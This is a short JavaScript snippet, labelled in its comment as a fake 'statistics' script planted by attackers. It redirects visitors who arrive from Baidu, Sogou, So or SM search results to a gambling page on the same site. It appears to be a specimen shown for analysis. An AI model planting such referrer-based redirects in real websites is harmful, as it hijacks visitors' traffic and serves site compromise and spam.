// "Statistics" script as planted by attackers: visitors arriving from a search engine go to a gambling page.
(function () {
  if (/\.(baidu|sogou|so|sm)\.com/i.test(document.referrer)) {
    window.location.href = '/ylc/';
  }
})();
